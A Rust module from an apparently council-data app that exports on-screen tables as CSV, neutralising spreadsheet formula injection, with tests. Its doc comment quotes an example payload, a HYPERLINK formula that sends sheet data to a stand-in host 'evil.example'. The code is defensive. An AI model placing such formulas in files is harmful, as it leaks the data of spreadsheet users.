//! Every table a reader sees, as CSV text (RFC 4180 via the `csv` crate): the app offers it
//! as a download, so what is downloaded is exactly what is on screen.
//!
//! Numbers are written plainly (no thousands separators, the paper's decimal places) so a
//! spreadsheet reads them as numbers; a blank or unpublished cell is an empty field.
//!
//! ## Formula injection
//!
//! The text comes from council papers and from whoever publishes the data, and officers
//! open these files in Excel or LibreOffice, which run a cell beginning with `=` as a
//! formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` sends the sheet's data
//! away). [`to_csv`], the only CSV writer, therefore follows OWASP's rule for CSV
//! injection: a cell — header or data — that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is written with a single quote `'` in front, so the spreadsheet reads
//! it as text: `=SUM(A1)` is written `'=SUM(A1)` and a reader sees the text `'=SUM(A1)`,
//! not a result. The `csv` crate then quotes the cell as usual when it holds a comma, quote or line
//! break.
//!
//! One exception keeps our own figures numeric, so that a spreadsheet still sums them: a
//! cell that is exactly a plain decimal number — an optional leading `-`, digits, and an
//! optional `.` with digits (`-12.5`), no exponent, no `+` — is left as it is. It cannot
//! be a formula. Everything else that starts with a trigger (`-1+1`, `-inf`, `+44…`) is
//! prefixed. See `docs/security.md`.

use std::borrow::Cow;

use crate::charts::{SeriesData, StackedData};
use crate::numbers::format_number;
use crate::rag::{blocks_text, status_label, ActionRow, RagCounts};
use minutebook_data::{Cell, DataTable, Indicator, RagStatus};

/// The characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it is written: prefixed with `'` when it would start a formula (see the
/// module docs); plain decimal numbers such as `-3.5` are left as numbers.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_TRIGGERS.contains(&c) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// `-?[0-9]+(\.[0-9]+)?`: what [`plain`] writes for a finite number.
fn is_plain_number(s: &str) -> bool {
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    let unsigned = s.strip_prefix('-').unwrap_or(s);
    match unsigned.split_once('.') {
        Some((int, frac)) => digits(int) && digits(frac),
        None => digits(unsigned),
    }
}

/// CSV text from a header row and data rows; every cell goes through [`neutralise`].
pub fn to_csv(header: &[String], rows: &[Vec<String>]) -> String {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail; every row has the header's length.
    for r in std::iter::once(header).chain(rows.iter().map(Vec::as_slice)) {
        let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

fn plain(value: f64, decimals: Option<u8>) -> String {
    format_number(value, decimals).replace(',', "")
}

/// A transcribed table, cell for cell; a trailing "Note" column when any row has a note.
pub fn table_csv(t: &DataTable) -> String {
    let notes = t.rows.iter().any(|r| r.note.is_some());
    let mut header: Vec<String> = t.columns.iter().map(|c| c.label.clone()).collect();
    if notes {
        header.push("Note".into());
    }
    let rows: Vec<Vec<String>> = t
        .rows
        .iter()
        .map(|r| {
            let mut cells: Vec<String> = t
                .columns
                .iter()
                .enumerate()
                .map(|(i, c)| match r.cells.get(i).and_then(|x| x.as_ref()) {
                    None => String::new(),
                    Some(Cell::Number(n)) => plain(*n, c.decimals),
                    Some(Cell::Text(s)) => s.clone(),
                    Some(Cell::List(items)) => items.join("\n"),
                })
                .collect();
            if notes {
                cells.push(r.note.clone().unwrap_or_default());
            }
            cells
        })
        .collect();
    to_csv(&header, &rows)
}

/// A section's headline figures.
pub fn indicators_csv(indicators: &[Indicator]) -> String {
    let header: Vec<String> = [
        "Indicator",
        "Category",
        "Value",
        "Unit",
        "As printed",
        "Period",
        "Target",
        "Comparators",
        "Note",
    ]
    .map(String::from)
    .to_vec();
    let rows = indicators
        .iter()
        .map(|i| {
            vec![
                i.name.clone(),
                i.category.clone().unwrap_or_default(),
                i.value.map(|v| plain(v, i.decimals)).unwrap_or_default(),
                unit_word(i.unit).into(),
                i.value_text.clone().unwrap_or_default(),
                i.period.clone().unwrap_or_default(),
                i.target
                    .as_ref()
                    .map(|t| {
                        let v = t.value.map(|v| plain(v, t.decimals)).unwrap_or_default();
                        match &t.by {
                            Some(by) => format!("{v} by {by}"),
                            None => v,
                        }
                    })
                    .unwrap_or_default(),
                i.comparators
                    .iter()
                    .map(|c| {
                        let name = c.label.clone().unwrap_or_else(|| c.kind.label().into());
                        match (c.value, &c.text) {
                            (Some(v), _) => format!("{name}: {}", plain(v, c.decimals)),
                            (None, Some(t)) => format!("{name}: {t}"),
                            (None, None) => name,
                        }
                    })
                    .collect::<Vec<_>>()
                    .join("; "),
                i.note.clone().unwrap_or_default(),
            ]
        })
        .collect::<Vec<_>>();
    to_csv(&header, &rows)
}

fn unit_word(u: minutebook_data::Unit) -> &'static str {
    match u {
        minutebook_data::Unit::Count => "count",
        minutebook_data::Unit::Percent => "percent",
        minutebook_data::Unit::RatePer10000 => "rate per 10,000",
        minutebook_data::Unit::Number => "number",
    }
}

/// The data table of a bar or line chart.
pub fn series_csv(d: &SeriesData) -> String {
    let header = vec![d.label_heading.clone(), d.value_heading.clone()];
    let rows: Vec<Vec<String>> = d
        .points
        .iter()
        .map(|p| vec![p.label.clone(), plain(p.value, d.decimals)])
        .collect();
    to_csv(&header, &rows)
}

/// The data table of a stacked-share chart: one row per bar, a column per category, a total.
pub fn stacked_csv(d: &StackedData) -> String {
    let mut header = vec![d.bar_heading.clone()];
    header.extend(d.categories.iter().cloned());
    header.push("Total".into());
    let rows: Vec<Vec<String>> = d
        .bars
        .iter()
        .map(|b| {
            let mut r = vec![b.label.clone()];
            r.extend(b.values.iter().map(|v| plain(*v, d.decimals)));
            r.push(plain(b.total(), d.decimals));
            r
        })
        .collect();
    to_csv(&header, &rows)
}

/// RAG counts per priority and overall: the tracker's summary table.
pub fn rag_counts_csv(per_priority: &[(String, String, RagCounts)], overall: &RagCounts) -> String {
    let mut header = vec!["Priority".to_string()];
    header.extend(RagStatus::ALL.iter().map(|s| s.label().to_string()));
    header.push(status_label(None).into());
    header.push("Total".into());
    let row = |name: &str, c: &RagCounts| {
        let mut r = vec![name.to_string()];
        r.extend(RagStatus::ALL.iter().map(|s| c.get(*s).to_string()));
        r.push(c.unrated.to_string());
        r.push(c.total().to_string());
        r
    };
    let mut rows: Vec<Vec<String>> = per_priority
        .iter()
        .map(|(_, title, c)| row(title, c))
        .collect();
    rows.push(row("All priorities", overall));
    to_csv(&header, &rows)
}

/// The plan's actions (the rows on screen), every column of the plan.
pub fn actions_csv(rows: &[&ActionRow]) -> String {
    let header: Vec<String> = [
        "Row",
        "Priority",
        "The Outcomes We Are Aiming For",
        "Action Ref",
        "Objective",
        "The Actions We Are Taking",
        "How we will know it has worked",
        "Responsible Lead Officer",
        "RAG status",
        "Rag Rating (as printed)",
        "Milestones",
        "Detailed Action Plan",
        "Transcription note",
    ]
    .map(String::from)
    .to_vec();
    let out: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.number.to_string(),
                r.priority_title.clone(),
                r.outcome.join("\n"),
                r.reference.clone().unwrap_or_default(),
                r.objective.join("\n"),
                blocks_text(&r.action),
                blocks_text(&r.success),
                r.lead.clone().unwrap_or_default(),
                status_label(r.status).into(),
                r.status_words.clone().unwrap_or_default(),
                r.milestone.clone().unwrap_or_default(),
                r.detailed_plan.clone().unwrap_or_default(),
                r.note.clone().unwrap_or_default(),
            ]
        })
        .collect();
    to_csv(&header, &out)
}

/// A file name for a download: the ids joined, only `[a-z0-9-]`, ending `.csv`.
pub fn file_name(parts: &[&str]) -> String {
    let joined = parts.join("-");
    let clean: String = joined
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_lowercase()
            } else {
                '-'
            }
        })
        .collect();
    let mut out = String::new();
    for c in clean.chars() {
        if !(c == '-' && (out.is_empty() || out.ends_with('-'))) {
            out.push(c);
        }
    }
    format!("{}.csv", out.trim_end_matches('-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_follows_rfc_4180() {
        let csv = to_csv(
            &["a".into(), "b".into()],
            &[vec!["x, y".into(), "say \"hi\"\nthere".into()]],
        );
        assert_eq!(csv, "a,b\r\n\"x, y\",\"say \"\"hi\"\"\nthere\"\r\n");
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, written) in [
            ("=SUM(A1)", "'=SUM(A1)"),
            ("+1", "'+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-inf", "'-inf"),
            ("-", "'-"),
            ("-1.", "'-1."),
            ("-.5", "'-.5"),
            ("-1e5", "'-1e5"),
            ("-3.5", "-3.5"),
            ("-12", "-12"),
            ("12", "12"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
        assert_eq!(
            to_csv(&["=h".into()], &[vec!["=1,2".into()], vec!["-2.5".into()]]),
            "'=h\r\n\"'=1,2\"\r\n-2.5\r\n"
        );
    }

    #[test]
    fn file_names_are_safe() {
        assert_eq!(
            file_name(&["sefton-plan", "Actions (filtered)"]),
            "sefton-plan-actions-filtered.csv"
        );
    }
}
